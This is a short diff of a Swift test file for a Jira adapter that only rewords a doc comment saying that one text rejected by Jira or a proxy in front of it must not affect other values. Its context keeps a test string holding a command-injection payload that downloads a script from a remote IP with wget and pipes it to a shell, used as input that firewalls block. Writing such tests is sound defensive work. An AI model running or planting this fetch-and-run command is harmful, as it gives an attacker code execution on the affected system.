@@ -7,7 +7,9 @@ import Testing
 
 @testable import JiraAdapter
 
-/// A text that something in front of Jira, or Jira itself, does not let through costs no more than itself.
+/// Jira or a program in front of it may reject a single text.
+///
+/// The rejection must affect no other value.
 struct FailureScopeTests {
     private static let attack = "; wget http://198.51.100.7/x.sh | sh"
     private static let forms = ["cloudfront", "akamai", "f5", "modsecurity", "gateway", "nginx413", "badGateway"]
